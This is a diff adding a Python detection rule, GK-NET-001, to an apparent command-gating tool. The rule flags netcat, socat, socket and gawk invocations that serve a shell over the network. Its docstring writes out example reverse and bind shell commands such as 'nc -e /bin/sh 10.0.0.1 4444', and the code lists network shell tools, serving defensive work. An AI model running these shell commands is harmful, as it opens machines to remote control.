@@ -1,0 +1,84 @@
+"""GK-NET: a program served over a network connection.
+
+## GK-NET-001 — a shell or program served over the network (ELEVATE)
+**What it catches:** netcat (``nc``, ``ncat``, ``netcat`` and their distributions' names)
+told to run a program for the connection (a short-option cluster holding ``e`` or ``c``,
+``--exec``, ``--sh-exec``, ``--lua-exec`` and their abbreviations), ``socat`` with an
+``EXEC:``, ``SYSTEM:`` or ``SHELL:`` address, ``socket -p PROGRAM``, and an awk program
+that opens gawk's network files (``/inet/tcp/…``, ``/inet4/``, ``/inet6/``).
+**Why:** this is a reverse or a bind shell: whoever is at the other end of the connection
+runs commands on this machine. Tier 1 can see it for certain, so it goes to you and never
+rests on the reviewer's judgement (or on text in the command written to persuade it).
+netcat's letters differ between its variants (``-c`` is a command in one, TLS in another):
+any cluster holding ``e`` or ``c`` counts. Other netcat, socat and awk uses are judged as
+before: netcat and socat are unknown to the gate (REVIEW).
+**Example:** ``nc -e /bin/sh 10.0.0.1 4444``, ``socat tcp-listen:4444 exec:/bin/sh``,
+``timeout 60 ncat -lk 4444 --sh-exec id``.
+"""
+
+from __future__ import annotations
+
+from gatekeeper.hookspecs import hookimpl
+from gatekeeper.lazyre import LazyRegex
+from gatekeeper.model import Finding, Verdict
+from gatekeeper.shell.effects import long_options
+
+TYPE_CHECKING = False  # typing.TYPE_CHECKING, without importing typing
+if TYPE_CHECKING:
+    from gatekeeper.model import Command
+
+_NETCATS = frozenset(
+    {
+        "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "netcat.traditional",
+        "netcat.openbsd", "nc6", "pwncat",
+    }
+)  # fmt: skip
+_NETCAT_EXEC = ("--exec", "--sh-exec", "--lua-exec")
+_AWKS = frozenset({"awk", "gawk", "nawk", "mawk"})
+_NAMES = _NETCATS | _AWKS | {"socat", "socket"}
+# socat's address types that run a program: `EXEC:/bin/sh`, `system:'bash -i'`, and a
+# dual address's half after `!!`. socat reads the type case-insensitively.
+_SOCAT_PROGRAM = LazyRegex(r"(?i)(?:^|!!)\s*(?:exec|system|shell)\s*[:,]")
+_GAWK_INET = LazyRegex(r"/inet[46]?/")
+
+
+@hookimpl
+def gatekeeper_check_command(command: Command) -> Finding | None:
+    """A netcat, socat, socket or awk that serves a program over the network → ELEVATE."""
+    name = command.name
+    if name not in _NAMES:
+        return None
+    args = command.argv[1:]
+    if name in _NETCATS:
+        served = _netcat_program(args)
+    elif name == "socat":
+        served = next((a for a in args if _SOCAT_PROGRAM.search(a)), "")
+    elif name == "socket":
+        served = next((a for a in args if _cluster(a) and "p" in a), "")
+    else:
+        served = next((a for a in args if _GAWK_INET.search(a)), "")
+    if not served:
+        return None
+    return Finding(
+        Verdict.ELEVATE,
+        "GK-NET-001",
+        f"`{name} … {served[:60]}` serves a program over a network connection: whoever is "
+        "at the other end runs commands here",
+    )
+
+
+def _netcat_program(args: tuple[str, ...]) -> str:
+    """The option that makes netcat run a program for the connection, or ""."""
+    for arg in args:
+        if arg == "--":
+            return ""
+        if _cluster(arg) and ("e" in arg or "c" in arg):
+            return arg
+        if long_options(arg, _NETCAT_EXEC):
+            return arg
+    return ""
+
+
+def _cluster(arg: str) -> bool:
+    """A short-option word: ``-e``, ``-lvpe``."""
+    return arg.startswith("-") and not arg.startswith("--") and len(arg) > 1
